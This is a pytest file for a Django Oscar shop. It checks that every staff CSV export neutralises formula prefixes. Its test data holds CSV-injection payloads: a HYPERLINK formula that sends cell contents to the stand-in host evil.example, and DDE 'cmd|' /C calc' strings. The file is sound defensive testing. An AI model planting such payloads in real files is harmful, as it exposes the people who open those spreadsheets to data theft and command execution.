"""Every CSV export the staff can download neutralises formula prefixes (issue 24): one
walk over all of them, Oscar's order export and dashboard reports included, with
shopper- and staff-typed text that starts with each prefix."""

import csv
import io

import pytest
from oscar.apps.dashboard.reports.utils import GeneratorRepository
from oscar.core.loading import get_model
from oscar.test.factories import VoucherSetFactory

from blog.models import Lead
from config.spreadsheet import FORMULA_PREFIXES
from marketing.models import Subscriber
from tests.support.conftest import make_order, make_user

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def _exports(order, voucher_set):
    yield "order export (all)", "get", "/dashboard/orders/?response_format=csv", {}
    yield (
        "order export (selected)",
        "post",
        "/dashboard/orders/",
        {"action": "download_selected_orders", "selected_order": [order.pk]},
    )
    for generator in GeneratorRepository().get_report_generators():
        url = f"/dashboard/reports/?report_type={generator.code}&download=true"
        yield f"report {generator.code}", "get", url, {}
    # Oscar writes a voucher set's codes with a plain csv.writer: they are generated from
    # letters and digits only (oscar.apps.voucher.utils.generate_code), never typed.
    url = f"/dashboard/vouchers/sets/download/{voucher_set.pk}/"
    yield "voucher set codes", "get", url, {}
    yield "subscribers", "get", "/cms/snippets/marketing/subscriber/?export=csv", {}
    yield "leads", "get", "/cms/snippets/blog/lead/?export=csv", {}


def _cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))):
        yield from row


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_every_csv_export_neutralises_formula_prefixes(client):
    customer = make_user("customer", "shopper")
    customer.first_name, customer.last_name = "+SUM(A1)", "@cmd"
    customer.save()
    order = make_order(user=customer, email=customer.email, name=(FORMULA, "\t=1"))
    get_model("catalogue", "Product").objects.update(title="-2+3+cmd|' /C calc'!A0")
    Subscriber.objects.create(email="=1+1@example.com", status="confirmed", source="footer")
    Lead.objects.create(email="@evil@example.com")
    client.force_login(make_user("superuser", "boss"))
    seen = []
    voucher_set = VoucherSetFactory(name="=cmd|' /C calc'!A0", count=2)
    for name, method, url, data in _exports(order, voucher_set):
        response = getattr(client, method)(url, data)
        assert response.status_code == 200, name
        assert "csv" in response["Content-Type"], name
        cells = list(_cells(response))
        live = [
            cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not _is_number(cell)
        ]
        assert live == [], name
        seen.extend(cells)
    # The typed formulas did reach the files, neutralised.
    assert f"'{FORMULA} \t=1" in seen
    assert "'-2+3+cmd|' /C calc'!A0" in seen
